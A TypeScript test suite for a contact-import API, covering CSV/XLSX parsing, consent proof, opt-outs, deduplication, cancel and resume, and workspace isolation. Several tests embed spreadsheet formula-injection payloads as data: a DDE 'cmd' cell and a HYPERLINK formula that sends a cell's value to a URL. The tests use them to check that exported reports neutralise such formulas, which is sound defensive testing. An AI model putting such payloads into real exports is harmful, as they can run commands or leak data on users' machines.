import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { IMPORT_TASKS } from './jobs.ts'
import type { Settings } from './contract.ts'
import { makeXlsx } from './testing/make-xlsx.ts'
import { runJobs } from '../../platform/jobs/index.ts'
import { testApp, type TestApp, type TestWorkspace } from '../../testing/app.ts'

type Tally = { rows: number; create: number; update: number; unchanged: number; duplicates: number; refused: Record<string, number>; warnings: Record<string, number>; consents: Record<string, number>; opt_outs: number; kept_opt_outs: number }
type Made = { id: string; state: string; sniffed: { columns: { name: string; suggestion: { target: string } }[]; suggested_settings: Settings; rows_estimate: number }; counts: { dry: Tally; run: Tally; preview: { row: number; repaired: object; problems: { code: string }[] }[]; reach: { contacts: number; media: object[] } }; rows_done: number; rows_total: number; error: string | null; cancel_requested: boolean }

let t: TestApp
let shop: TestWorkspace
let other: TestWorkspace
beforeAll(async () => {
  t = await testApp()
  shop = await t.workspace('UA')
  other = await t.workspace('GE')
})
afterAll(() => t.close())

function form(name: string, content: string | Buffer) {
  const boundary = 'carillon-boundary'
  return { headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: Buffer.concat([Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: application/octet-stream\r\n\r\n`), Buffer.from(content), Buffer.from(`\r\n--${boundary}--\r\n`)]) }
}
async function upload(content: string | Buffer, name = 'people.csv', by = shop): Promise<Made> {
  const { headers, body } = form(name, content)
  const answer = await by.call('POST', '/v1/imports', body, headers)
  expect(answer.statusCode, answer.body).toBe(201)
  return answer.json()
}
const get = async (id: string) => (await shop.call('GET', `/v1/imports/${id}`)).json<Made>()
const jobs = () => runJobs(t.house, IMPORT_TASKS)
async function act(id: string, verb: 'check' | 'run', settings?: Settings): Promise<Made> {
  const answer = await shop.call('POST', `/v1/imports/${id}/${verb}`, settings ? { settings } : {})
  expect(answer.statusCode, answer.body).toBe(202)
  await jobs()
  return get(id)
}
const consented = (settings: Settings): Settings => ({ ...settings, consent: { applies: 'column', source: 'loyalty card form', media: ['email', 'sms'] } })
const FILE = `ID;ПІБ;E-mail;Телефон;Місто;Згода;Відписаний
a1;ШЕВЧЕНКО ТАРАС ГРИГОРОВИЧ;taras@example.com;80671234567, 0501234567;Канів;так;
a2;王小明;xiao@example.com;;上海;ні;
a3;Олег;;3.80671E+11;Тула;;
;Без адреси;;;Київ;так;
;Погана пошта;not-an-address;;Київ;так;
a4;Ніно;nino.a4@example.com;12;თბილისი;კი;
a5;Відписана;out@example.com;;Київ;так;так
a1;Інше ім'я;second@example.com;;Київ;;
`

describe('an import from upload to reach', () => {
  let id: string
  let settings: Settings
  test('the upload says what is in the file and how to map it', async () => {
    const made = await upload(FILE)
    id = made.id
    settings = consented(made.sniffed.suggested_settings)
    expect(made).toMatchObject({ state: 'uploaded', rows_total: 8, file_name: 'people.csv', sniffed: { format: 'csv', encoding: 'utf-8', delimiter: ';', header: true } })
    expect(made.sniffed.columns.map((column) => column.suggestion.target)).toEqual(['external_id', 'full_name_fio', 'email', 'phone', 'trait', 'consent', 'opt_out'])
  })
  test('a preview shows what is mended, at once', async () => {
    const answer = (await shop.call('POST', `/v1/imports/${id}/preview`, { settings })).json<{ columns: string[]; rows: unknown[] }>()
    expect(answer.columns[1]).toBe('ПІБ')
    expect(answer.rows[0]).toMatchObject({ row: 2, cells: ['a1', 'ШЕВЧЕНКО ТАРАС ГРИГОРОВИЧ', 'taras@example.com', '80671234567, 0501234567', 'Канів', 'так', ''],
      repaired: { name: { to: 'Шевченко Тарас Григорович' }, phone: { to: '+380671234567, +380501234567' } }, contact: { phones: ['+380671234567', '+380501234567'], family_name: 'Шевченко' } })
  })
  test('the dry run tells what the run then does', async () => {
    const checked = await act(id, 'check', settings)
    expect(checked).toMatchObject({ state: 'checked', rows_done: 8, rows_total: 8, counts: { run: null, dry: {
      rows: 8, create: 5, update: 0, unchanged: 0, duplicates: 1, refused: { identity_missing: 1, email_invalid: 1 }, warnings: { phone_invalid: 1, phone_damaged: 1, duplicate_in_file: 1 },
      consents: { email: 2, sms: 2 }, opt_outs: 1, repaired_phones: 1, repaired_names: 1 } } })
    expect(checked.counts.preview).toHaveLength(8)
    expect((await shop.call('GET', '/v1/contacts/count')).json()).toEqual({ count: 0 })
    const done = await act(id, 'run')
    expect(done).toMatchObject({ state: 'done', rows_done: 8, error: null })
    expect(done.counts.run).toEqual(checked.counts.dry)
    expect(done.counts.reach).toEqual({ contacts: 5, media: [{ medium: 'email', endpoints: 4, consented: 2 }, { medium: 'sms', endpoints: 1, consented: 1 }, { medium: 'viber', endpoints: 1, consented: 0 }, { medium: 'whatsapp', endpoints: 1, consented: 0 }] })
  })
  test('people are there, with their consents\' proof, and the import is a rule', async () => {
    const taras = (await shop.call('GET', '/v1/contacts/by/external_id/a1')).json<{ id: string }>()
    expect(taras).toMatchObject({ name: 'Шевченко Тарас Григорович', given_name: 'Тарас', traits: { Місто: 'Канів' }, consented: ['email', 'sms'], imports: [{ id, file_name: 'people.csv' }] })
    const ledger = (await shop.call('GET', `/v1/consents?contact_id=${taras.id}`)).json<{ data: object[] }>()
    expect(ledger.data[0]).toMatchObject({ source: 'loyalty card form', proof: { import_id: id, file_name: 'people.csv', row: 2, said: 'так', date: 'unknown' } })
    expect((await shop.call('GET', '/v1/contacts/by/external_id/a5')).json()).toMatchObject({ consented: [], consents: [{ medium: '*', state: 'opted_out' }] })
    expect((await shop.call('POST', '/v1/segments/count', { rule: { import: id } })).json()).toMatchObject({ count: 5 })
  })
  test('the refused rows come as a file that is safe to open, and go in again once mended', async () => {
    const file = await shop.call('GET', `/v1/imports/${id}/refused.csv`)
    expect(file.headers['content-type']).toContain('text/csv')
    expect(file.headers['content-disposition']).toContain("filename*=UTF-8''people%20-%20refused.csv")
    expect(file.body.split('\r\n').map((line) => line.split(';').slice(0, 2).join())).toEqual(['\uFEFF_row,_code', '5,identity_missing', '6,email_invalid', ''])
    // In the workspace's language, in that of whoever asks, and where we speak neither, in English, which names the value.
    const reasons = async (query: string) => (await shop.call('GET', `/v1/imports/${id}/refused.csv${query}`)).body.split('\r\n').slice(1, 3).map((line) => line.split(';')[2])
    expect(await reasons('')).toEqual(['У рядку немає ні ел. пошти, ні телефону, ні вашого номера клієнта, тож людину не впізнати.', 'Це не одна адреса ел. пошти. Приклад: anna@example.com, без імені навколо.'])
    expect((await reasons('?locale=ka'))[0]).toContain('სტრიქონ')
    expect((await reasons('?locale=zh-Hans-CN'))[0]).toContain('无法识别')
    expect(await reasons('?locale=fr')).toEqual(['The row has no e-mail address, phone or id, so the person cannot be recognised.', expect.stringContaining('not-an-address')])
    const mended = await upload(file.body.replaceAll('not-an-address', 'mended@example.com').replace('Без адреси;;', 'Без адреси;;0931112233'), 'mended.csv')
    expect(mended.sniffed.columns.map((column) => column.suggestion.target).slice(0, 4)).toEqual(['ignore', 'ignore', 'ignore', 'external_id'])
    expect((await act(mended.id, 'run', mended.sniffed.suggested_settings)).counts.run).toMatchObject({ rows: 2, create: 2, refused: {} })
  })
  test('the same file again changes nothing, dry and wet', async () => {
    const again = await upload(FILE)
    const checked = await act(again.id, 'check', settings)
    expect(checked.counts.dry).toMatchObject({ create: 0, update: 0, unchanged: 4 + 1, duplicates: 1 })
    const before = await snapshot()
    expect((await act(again.id, 'run')).counts.run).toEqual(checked.counts.dry)
    expect(await snapshot()).toEqual(before)
  })
  test('a done import is done', async () => {
    expect((await shop.call('POST', `/v1/imports/${id}/run`, {})).json()).toMatchObject({ code: 'conflict' })
    expect((await shop.call('POST', `/v1/imports/${id}/preview`, { settings })).statusCode).toBe(409)
  })
})

async function snapshot() {
  const rows = await t.house.db.system.selectFrom('contact').selectAll().where('workspace_id', '=', shop.id).orderBy('id').execute()
  const consents = await t.house.db.system.selectFrom('consent_entry').select('id').where('workspace_id', '=', shop.id).orderBy('id').execute()
  return { rows, consents }
}

describe('the rows that matter', () => {
  test('an opt-out on record outweighs what a file says', async () => {
    const file = 'email,consent\nkept@example.com,yes\n'
    const first = await upload(file)
    await act(first.id, 'run', consented(first.sniffed.suggested_settings))
    const contact = (await shop.call('GET', '/v1/contacts/by/email/kept@example.com')).json<{ id: string }>()
    await shop.call('POST', '/v1/consents', { contact_id: contact.id, consents: [{ medium: '*', state: 'opted_out', source: 'phone call' }] })
    const again = await upload(file)
    const checked = await act(again.id, 'check', consented(again.sniffed.suggested_settings))
    expect(checked.counts.dry).toMatchObject({ unchanged: 1, kept_opt_outs: 1 })
    expect((await act(again.id, 'run')).counts.run).toEqual(checked.counts.dry)
    expect((await shop.call('GET', `/v1/contacts/${contact.id}`)).json()).toMatchObject({ consented: [] })
  })
  test('an identity of somebody else refuses the row; mode decides about the known and the unknown', async () => {
    const first = await upload('email,phone\nx@example.com,0671110001\ny@example.com,0671110002\n')
    await act(first.id, 'run', first.sniffed.suggested_settings)
    const second = await upload('email,phone,name\nx@example.com,0671110002,X\ny@example.com,0671110002,Y\nnew@example.com,,N\n')
    for (const [mode, run] of [['update', { update: 1, refused: { identity_conflict: 1, contact_unknown: 1 } }], ['create', { create: 1, unchanged: 1, refused: { identity_conflict: 1 } }]] as const) {
      const made = mode === 'update' ? second : await upload('email,phone,name\nx@example.com,0671110002,X\ny@example.com,0671110002,Z\nnew@example.com,,N\n')
      const settings = { ...made.sniffed.suggested_settings, mode }
      const dry = (await act(made.id, 'check', settings)).counts.dry
      expect(dry).toMatchObject(run)
      expect((await act(made.id, 'run')).counts.run).toEqual(dry)
    }
    expect((await shop.call('GET', '/v1/contacts/by/email/y@example.com')).json()).toMatchObject({ name: 'Y' })
  })
  test('XLSX in the same way, with numbers as they are', async () => {
    const made = await upload(makeXlsx([['E-mail', 'Телефон', 'Сума', 'Народився'], ['xlsx@example.com', 380671119999, 1234.5, { date: 36526 }]]), 'книга.xlsx')
    expect(made.sniffed).toMatchObject({ format: 'xlsx', sheets: ['Sheet1'], encoding: null })
    await act(made.id, 'run', made.sniffed.suggested_settings)
    expect((await shop.call('GET', '/v1/contacts/by/phone/%2B380671119999')).json()).toMatchObject({ traits: { Сума: 1234.5, Народився: '2000-01-01' } })
  })
  test('another delimiter or encoding makes other columns, with suggestions of their own', async () => {
    const made = await upload('id;name,note;email\n1;Anna, B;anna.reread@example.com\nx;not,an;address\n')
    const names = (one: Made) => one.sniffed.columns.map((column) => column.name)
    expect(names(made)).toEqual(['id', 'name,note', 'email'])
    const reread = await shop.call('POST', `/v1/imports/${made.id}/reread`, { delimiter: ',', encoding: 'utf-8' })
    expect(reread.json()).toMatchObject({ sniffed: { delimiter: ',', suggested_settings: { delimiter: ',' }, columns: [{ name: 'id;name' }, { name: 'note;email', samples: [' B;anna.reread@example.com', 'an;address'] }] } })
    const back = (await shop.call('POST', `/v1/imports/${made.id}/reread`, { delimiter: ';' })).json<Made>()
    expect(back.sniffed.columns.map((column) => column.suggestion.target)).toEqual(made.sniffed.columns.map((column) => column.suggestion.target))
    await act(made.id, 'run', { ...back.sniffed.suggested_settings, columns: [{ index: 2, target: 'email' }] })
    expect((await shop.call('GET', `/v1/imports/${made.id}/refused.csv`)).body).toContain('_message;id;name,note;email')
    expect((await shop.call('POST', `/v1/imports/${made.id}/reread`, { delimiter: ';' })).statusCode).toBe(409)
  })
  test('a raw body is enough for curl', async () => {
    const answer = await shop.call('POST', '/v1/imports?file_name=raw.csv', 'email,name\nraw@example.com,=1+1\n', { 'content-type': 'text/csv' })
    expect(answer.json()).toMatchObject({ file_name: 'raw.csv', state: 'uploaded' })
    expect((await shop.call('POST', '/v1/contacts', 'email\nraw@example.com', { 'content-type': 'text/csv' })).statusCode).toBe(415)
  })
  test('a formula stays text and is neutralised in the report', async () => {
    const made = await upload("email,note\nbad,=cmd|' /C calc'!A0\n")
    await act(made.id, 'run', { ...made.sniffed.suggested_settings, columns: [{ index: 0, target: 'email' }] })
    expect((await shop.call('GET', `/v1/imports/${made.id}/refused.csv`)).body).toContain(`,'=cmd|' /C calc'!A0`)
  })
})

describe('what is shown afterwards is true', () => {
  test('a consent names where it was given, on the profile, in the ledger and on the timeline; an opt-out needs no such place', async () => {
    const made = await upload('email,consent,unsubscribed\nsaid.yes@example.com,yes,\nsaid.no@example.com,yes,yes\n')
    await act(made.id, 'run', { ...made.sniffed.suggested_settings, consent: { applies: 'column', source: ' order form ', media: ['email'] } })
    const yes = (await shop.call('GET', '/v1/contacts/by/email/said.yes@example.com')).json<{ id: string }>()
    expect(yes).toMatchObject({ consents: [{ medium: 'email', state: 'opted_in', source: 'order form' }] })
    expect((await shop.call('GET', `/v1/consents?contact_id=${yes.id}`)).json()).toMatchObject({ data: [{ source: 'order form', proof: { import_id: made.id, row: 2, said: 'yes' } }] })
    expect((await shop.call('GET', `/v1/contacts/${yes.id}/timeline?kind=consent`)).json()).toMatchObject({ data: [{ body: { source: 'order form', proof: { import_id: made.id } } }] })
    expect((await shop.call('GET', '/v1/contacts/by/email/said.no@example.com')).json()).toMatchObject({ consents: [{ medium: '*', state: 'opted_out', source: 'import' }] })
  })
  test('a birthday is a day: in the API, in a template wherever the person lives, and in a segment; a moment stays a moment', async () => {
    const made = await upload('email,time_zone,born,seen\nday@example.com,America/Los_Angeles,17.05.1990,2026-01-12 10:30\n')
    const columns: Settings['columns'] = [{ index: 0, target: 'email' }, { index: 1, target: 'time_zone' }, { index: 2, target: 'trait', trait: { name: 'born', type: 'date' } }, { index: 3, target: 'trait', trait: { name: 'last visit', type: 'date' } }]
    await act(made.id, 'run', { ...made.sniffed.suggested_settings, columns })
    const person = (await shop.call('GET', '/v1/contacts/by/email/day@example.com')).json<{ id: string }>()
    expect(person).toMatchObject({ traits: { born: '1990-05-17', 'last visit': '2026-01-12T10:30:00.000Z' } })
    for (const [value, count] of [['1990-05-17', 1], ['1990-05-18', 0]] as const)
      expect((await shop.call('POST', '/v1/segments/count', { rule: { trait: 'born', op: 'is', value } })).json()).toMatchObject({ count })
    const content = { default_locale: 'en', locales: { en: { core: { headline: 'Hello', body: 'Born {{ contact.born | date: "%Y-%m-%d" }}, that is {{ contact.born | date: "d MMMM" }}', buttons: [] } } } }
    expect((await shop.call('POST', '/v1/templates/preview', { content, contact_id: person.id, media: ['sms'] })).body).toContain('Born 1990-05-17, that is May 17')
  })
  test('reach counts people, not their addresses, and a segment of the same people counts alike', async () => {
    const made = await upload('email,phone,consent\nr1@example.com,"0672220001, 0672220002",yes\nr2@example.com r2b@example.com,,yes\n,0672220003,no\n')
    const { counts } = await act(made.id, 'run', consented(made.sniffed.suggested_settings))
    expect(counts.reach).toEqual({ contacts: 3, media: [{ medium: 'email', endpoints: 2, consented: 2 }, { medium: 'sms', endpoints: 2, consented: 1 }, { medium: 'viber', endpoints: 2, consented: 0 }, { medium: 'whatsapp', endpoints: 2, consented: 0 }] })
    const segment = (await shop.call('POST', '/v1/segments/count', { rule: { import: made.id } })).json<{ count: number; reachable: { medium: string; endpoints: number }[] }>()
    expect(segment.count).toBe(counts.reach.contacts)
    expect(segment.reachable.filter(({ endpoints }) => endpoints > 0)).toEqual(counts.reach.media)
    expect((await shop.call('POST', '/v1/segments/count', { rule: { all: [{ import: made.id }, { endpoint: 'sms', exists: true }] } })).json()).toMatchObject({ count: 2 })
  })
  test('the operator beside a number is kept with it, and a ported number takes the new one', async () => {
    const made = await upload('Телефон,Оператор\n0672223301,Kyivstar\n"0672223302, 0672223303",lifecell\n')
    expect(made.sniffed.suggested_settings.columns).toMatchObject([{ target: 'phone' }, { target: 'phone_operator' }])
    await act(made.id, 'run', made.sniffed.suggested_settings)
    const operators = async (phone: string) => (await shop.call('GET', `/v1/contacts/by/phone/${encodeURIComponent(phone)}`)).json<{ endpoints: { address: string; medium: string; operator: string | null }[] }>().endpoints.filter(({ medium }) => medium === 'sms').map(({ address, operator }) => [address, operator])
    expect(await operators('+380672223301')).toEqual([['+380672223301', 'Kyivstar']])
    expect(await operators('+380672223302')).toEqual([['+380672223302', 'lifecell'], ['+380672223303', null]])
    const ported = await upload('Телефон,Оператор\n0672223301,Vodafone\n0672223302,lifecell\n')
    const dry = (await act(ported.id, 'check', ported.sniffed.suggested_settings)).counts.dry
    expect(dry).toMatchObject({ update: 1, unchanged: 1 })
    expect((await act(ported.id, 'run')).counts.run).toEqual(dry)
    expect(await operators('+380672223301')).toEqual([['+380672223301', 'Vodafone']])
  })
  test('a given name is how to address somebody, unless that was said or the name is Chinese', async () => {
    await shop.call('POST', '/v1/contacts', { email: 'call1@example.com', call_name: 'Тарасик' })
    await shop.call('POST', '/v1/contacts', { email: 'call2@example.com', name: 'Хтось' })
    const fio = 'ПІБ,email\nШевченко Тарас Григорович,call1@example.com\nКоваль Ганна Іванівна,call2@example.com\n王小明,call3@example.com\nКоваль І. П.,call4@example.com\n'
    const made = await upload(fio)
    const checked = await act(made.id, 'check', made.sniffed.suggested_settings)
    expect(checked.counts.preview[0]).toMatchObject({ contact: { call_name: 'Тарас' } })
    expect((await act(made.id, 'run')).counts.run).toEqual(checked.counts.dry)
    const parts = await upload('first name,last name,call name,email\nAnna,Smith,,call5@example.com\n小明,王,,call6@example.com\nNino,Beridze,Nina,call7@example.com\n')
    await act(parts.id, 'run', parts.sniffed.suggested_settings)
    const names = await Promise.all([1, 2, 3, 4, 5, 6, 7].map(async (n) => (await shop.call('GET', `/v1/contacts/by/email/call${n}@example.com`)).json<{ call_name: string | null }>().call_name))
    expect(names).toEqual(['Тарасик', 'Ганна', null, null, 'Anna', null, 'Nina'])
    const again = await upload(fio)
    const dry = (await act(again.id, 'check', again.sniffed.suggested_settings)).counts.dry
    expect(dry).toMatchObject({ unchanged: 4 })
    expect((await act(again.id, 'run')).counts.run).toEqual(dry)
    // What was derived stays when the file has another name for the person: it may be how somebody corrected it.
    const other = await upload('ПІБ,email\nКоваль Галина Іванівна,call2@example.com\n')
    expect((await act(other.id, 'run', { ...made.sniffed.suggested_settings })).counts.run).toMatchObject({ update: 1 })
    expect((await shop.call('GET', '/v1/contacts/by/email/call2@example.com')).json()).toMatchObject({ given_name: 'Галина', call_name: 'Ганна' })
  })
})

describe('stops and starts', () => {
  const many = `email\n${Array.from({ length: 3500 }, (_, n) => `many${n}@example.com`).join('\n')}\n`
  test('cancel stops after the batch in hand; run goes on from there, and doubles nothing', async () => {
    const made = await upload(many)
    expect((await shop.call('POST', `/v1/imports/${made.id}/run`, { settings: made.sniffed.suggested_settings })).json()).toMatchObject({ state: 'running' })
    // Asked for while the second batch is in hand: by the database itself, so that no clock decides.
    await t.house.db.pools.owner.query(`create function cancel_at() returns trigger language plpgsql as $$ begin if new.rows_done = 2000 and new.state = 'running' then new.cancel_requested := true; end if; return new; end $$;
      create trigger cancel_at before update on "import" for each row when (new.id = '${made.id}') execute function cancel_at()`)
    await jobs()
    await t.house.db.pools.owner.query('drop trigger cancel_at on "import"; drop function cancel_at()')
    expect(await get(made.id)).toMatchObject({ state: 'cancelled', rows_done: 2000, cancel_requested: false, counts: { run: { rows: 2000 } } })
    expect((await shop.call('POST', `/v1/imports/${made.id}/run`, { settings: made.sniffed.suggested_settings })).statusCode).toBe(409)
    expect(await act(made.id, 'run')).toMatchObject({ state: 'done', rows_done: 3500, counts: { run: { rows: 3500, create: 3500 }, reach: { contacts: 3500 } } })
  })
  test('a crash between batches resumes at the right row; a worker that was overtaken undoes its batch', async () => {
    const made = await upload(many.replaceAll('many', 'crash'))
    await shop.call('POST', `/v1/imports/${made.id}/run`, { settings: made.sniffed.suggested_settings })
    await t.house.db.pools.owner.query(`create function crash_at() returns trigger language plpgsql as $$ begin if new.rows_done = 3000 then raise exception 'gone'; end if; return new; end $$;
      create trigger crash_at before update on "import" for each row when (new.id = '${made.id}') execute function crash_at()`)
    await jobs()
    await t.house.db.pools.owner.query('drop trigger crash_at on "import"; drop function crash_at()')
    expect(await get(made.id)).toMatchObject({ state: 'running', rows_done: 2000 })
    await t.house.db.pools.owner.query('update graphile_worker._private_jobs set run_at = now()')
    await jobs()
    expect(await get(made.id)).toMatchObject({ state: 'done', counts: { run: { rows: 3500, create: 3500, unchanged: 0 } } })
  })
  test('what is not at work is cancelled at once; a job that finds nothing to do does nothing', async () => {
    const made = await upload('email\nc@example.com\n')
    expect((await shop.call('POST', `/v1/imports/${made.id}/cancel`)).json()).toMatchObject({ state: 'cancelled' })
    expect((await shop.call('POST', `/v1/imports/${made.id}/cancel`)).statusCode).toBe(409)
    await shop.call('POST', `/v1/imports/${made.id}/check`, { settings: made.sniffed.suggested_settings })
    await shop.call('POST', `/v1/imports/${made.id}/cancel`)
    await jobs()
    expect(await get(made.id)).toMatchObject({ state: 'cancelled', cancel_requested: false })
  })
  test('a file that breaks off late fails with the row, and what was written stays', async () => {
    const made = await upload(`${many.replaceAll('many', 'late')}"never closed`)
    expect(await act(made.id, 'run', made.sniffed.suggested_settings)).toMatchObject({ state: 'failed', rows_done: 3000, error: 'A quotation mark opens in row 3502 and is never closed.' })
  })
})

describe('who may, and what is refused', () => {
  test('another workspace\'s import does not exist', async () => {
    const made = await upload('email\nmine@example.com\n')
    const settings = made.sniffed.suggested_settings
    for (const [method, path, body] of [['GET', ''], ['GET', '/refused.csv'], ['POST', '/preview', { settings }], ['POST', '/reread', {}], ['POST', '/check', { settings }], ['POST', '/run', { settings }], ['POST', '/cancel']] as const)
      expect((await other.call(method, `/v1/imports/${made.id}${path}`, body)).statusCode, path).toBe(404)
    expect((await other.call('GET', '/v1/imports')).json()).toMatchObject({ data: [] })
  })
  test('a bought list is refused, and so is consent without a source or a foreign topic', async () => {
    const made = await upload('email,consent\nb@example.com,yes\n')
    const refuse = async (consent: object) => (await shop.call('POST', `/v1/imports/${made.id}/check`, { settings: { ...made.sniffed.suggested_settings, consent } })).json<{ errors: { pointer: string; code: string }[] }>().errors[0]
    expect(await refuse({ applies: 'column', source: 'bought list', media: ['email'] })).toMatchObject({ code: 'source_refused', pointer: '/settings/consent/source' })
    expect(await refuse({ applies: 'column', media: ['email'] })).toMatchObject({ code: 'source_missing' })
    expect(await refuse({ applies: 'column', source: 'form', media: ['email'], topic_id: 'top_nowhere' })).toMatchObject({ code: 'topic_unknown' })
  })
  test('files that are none', async () => {
    const refuse = async (content: string | Buffer, name = 'x.csv') => {
      const { headers, body } = form(name, content)
      return (await shop.call('POST', '/v1/imports', body, headers)).json<{ errors: { code: string }[] }>().errors[0]?.code
    }
    expect(await refuse('')).toBe('file_empty')
    expect(await refuse(Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'old.xls')).toBe('xls_old')
    expect(await refuse(`${'a,'.repeat(100_000)}\n${'x,'.repeat(100_000)}x`)).toBe('too_many_columns')
    expect((await shop.call('POST', '/v1/imports', { file: 'x' })).statusCode).toBe(415)
  })
  test('formulas stay text and leave neutralised; a zero byte costs its own row alone', async () => {
    const formula = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
    const cell = (text: string) => `"${text.replaceAll('"', '""')}"`
    const made = await upload(`name,email,note\n${cell('@SUM(1+1)*cmd|x')},formula@example.com,${cell(formula)}\nZero,zero@example.com,a\0b\nAfter,after@example.com,＝1+1\n${cell(formula)},,${cell('-2+3')}\n`)
    expect((await act(made.id, 'check', made.sniffed.suggested_settings)).counts.preview).toHaveLength(4)
    const { counts } = await act(made.id, 'run')
    expect(counts.run).toMatchObject({ create: 2, refused: { text_invalid: 1, identity_missing: 1 } })
    expect((await shop.call('GET', '/v1/contacts/by/email/formula@example.com')).json()).toMatchObject({ traits: { note: formula } })
    const refused = (await shop.call('GET', `/v1/imports/${made.id}/refused.csv`)).body
    expect(refused).toContain(`"'${formula.replaceAll('"', '""')}"`)
    expect(refused).toContain("'-2+3")
    for (const field of refused.split(/[,\r\n]+/)) expect(field).not.toMatch(/^"?[=+@＝-]/)
    const again = await upload(refused, 'refused.csv')
    expect(again.sniffed.columns.map((column) => column.name)).toEqual(['_row', '_code', '_message', 'name', 'email', 'note'])
  })
  test('a file in GB 18030 is recognised, mapped by its Chinese headers, and its people are there', async () => {
    // 姓名,手机号码,电子邮箱 / 王小明,13800138000,xm@example.cn as Excel in China saves it.
    const made = await upload(Buffer.concat([Buffer.from('d0d5c3fb2ccad6bbfabac5c2eb2cb5e7d7d3d3cacfe40d0acdf5d0a1c3f7', 'hex'), Buffer.from(',13800138000,xm@example.cn\r\n')]), '客户.csv')
    expect(made).toMatchObject({ file_name: '客户.csv', sniffed: { encoding: 'gb18030' } })
    expect(made.sniffed.columns.map(({ name, suggestion }) => [name, suggestion.target])).toEqual([['姓名', 'name'], ['手机号码', 'phone'], ['电子邮箱', 'email']])
    await act(made.id, 'run', { ...made.sniffed.suggested_settings, phone_country: 'CN' })
    expect((await shop.call('GET', '/v1/contacts/by/email/xm@example.cn')).json()).toMatchObject({ name: '王小明' })
    const chosen = await shop.call('POST', `/v1/imports/${(await upload('a,b\n1,2\n')).id}/reread`, { encoding: 'euc-kr' })
    expect(chosen.json()).toMatchObject({ sniffed: { encoding: 'euc-kr' } })
  })
  test('a file with the same columns is offered as it was read the last time, here and nowhere else', async () => {
    const first = await upload('Mail;Wer;Seit\nrem1@example.com;Anna;01/02/2020\n', 'january.csv')
    expect(first).toMatchObject({ remembered: null })
    const settings: Settings = { ...first.sniffed.suggested_settings, date_order: 'mdy', tags: ['winter'], columns: [{ index: 0, target: 'email' }, { index: 1, target: 'call_name' }] }
    await act(first.id, 'check', settings)
    expect(await upload('Mail;Wer;Seit\nrem2@example.com;Ben;01/03/2020\n')).toMatchObject({ remembered: null }) // only a run counts
    await act(first.id, 'run')
    expect(await get(first.id)).toMatchObject({ remembered: null })
    const again = await upload('mail,WER,seit\nrem3@example.com,Cleo,01/04/2020\n', 'february.csv')
    expect(again).toMatchObject({ remembered: { import_id: first.id, file_name: 'january.csv', settings: { ...settings, delimiter: ',', encoding: 'utf-8' } } })
    expect(await get(again.id)).toMatchObject({ remembered: { import_id: first.id } })
    expect(await upload('Wer;Mail;Seit\nAnna;rem4@example.com;1\n')).toMatchObject({ remembered: null })
    expect(await upload('Mail;Wer;Seit\nrem5@example.com;Anna;1\n', 'theirs.csv', other)).toMatchObject({ remembered: null })
    const reread = (delimiter: string) => shop.call('POST', `/v1/imports/${again.id}/reread`, { delimiter }).then((answer) => answer.json())
    expect(await reread('|')).toMatchObject({ remembered: null })
    expect(await reread(',')).toMatchObject({ remembered: { import_id: first.id } })
  })
  test('lists are paged and samples are in the workspace\'s language', async () => {
    const page = (await shop.call('GET', '/v1/imports?limit=2')).json<{ data: Made[]; page_info: { after: string } }>()
    const next = (await shop.call('GET', `/v1/imports?limit=2&after=${page.page_info.after}`)).json<{ data: Made[] }>()
    expect(new Set([...page.data, ...next.data].map((each) => each.id)).size).toBe(4)
    const sample = await shop.call('GET', '/v1/imports/sample.csv')
    expect(sample.body).toContain('ПІБ;E-mail;Телефон')
    const made = await upload(sample.body, 'sample.csv')
    const checked = await act(made.id, 'check', consented(made.sniffed.suggested_settings))
    expect(checked.counts.dry).toMatchObject({ rows: 10, create: 10, warnings: { phone_damaged: 1 }, opt_outs: 1 })
  })
})
